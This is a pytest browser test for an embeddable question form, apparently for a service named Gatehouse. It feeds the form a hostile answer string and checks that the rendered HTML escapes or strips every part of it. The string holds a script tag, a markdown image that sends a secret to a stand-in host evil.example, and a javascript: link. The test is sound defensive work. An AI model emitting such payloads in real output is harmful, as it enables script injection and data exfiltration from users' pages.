"""A site's page with one form, in a real browser without scripts: the answer is a page of Gatehouse."""

from __future__ import annotations

import json
import shutil
import subprocess

import pytest

from tests.clients.running_server import HERE
from tests.clients.site import Pages, Site
from tests.fakes.servers import free_port

pytestmark = [
    pytest.mark.clients,
    pytest.mark.skipif(shutil.which("chromium") is None, reason="Chromium is not installed"),
]

HOSTILE = (
    "**Yes.** <script>document.title = 1</script> ![x](https://evil.example/?secret) [y](javascript:alert(1))"
)


def write_page(pages: Pages, name: str, site: Site, *, target: str = "") -> None:
    """Write a page as a site's server would render it."""
    token = site.create_token(origin=site.origin)["formToken"]
    frame = f'<iframe name="{target}" title="Answer"></iframe>' if target else ""
    (pages.folder / name).write_text(
        f'<!doctype html><title>Shop</title><form method="post" action="{site.url}/embed/ask" target="{target}">'
        f'<input type="hidden" name="formToken" value="{token}"><label>Question <textarea name="message"></textarea>'
        f"</label><button>Ask</button></form>{frame}"
    )


def test_one_form_is_all_that_a_page_needs(site: Site, pages: Pages, tmp_path_factory, monkeypatch) -> None:
    monkeypatch.setattr(site.upstream, "text", HOSTILE)
    write_page(pages, "index.html", site)
    write_page(pages, "frame.html", site, target="answer")
    elsewhere = Pages(site, tmp_path_factory.mktemp("elsewhere"), port=free_port())
    write_page(elsewhere, "index.html", site)

    with elsewhere.serving():
        done = subprocess.run(
            ["node", "pages/ask_form.mjs", json.dumps({"allowed": pages.url, "foreign": elsewhere.url})],
            cwd=HERE,
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
    assert done.returncode == 0, done.stderr
    seen = json.loads(done.stdout)

    assert seen["html"].startswith("<p><strong>Yes.</strong> &lt;script&gt;")
    assert "<img" not in seen["html"]
    assert 'href="javascript' not in seen["html"]
    assert seen["link"] == site.origin
    assert [turn.strip() for turn in seen["turns"]][::2] == ["First?", "Second?"]
    assert seen["afterReload"] == 4
    assert "In a frame?" in seen["framed"]
    assert seen["foreign"][0] == 403
    assert not [host for host in seen["hosts"] if "evil" in host]
    assert len(site.upstream.received) == 3, "a page that is loaded again is not billed again"
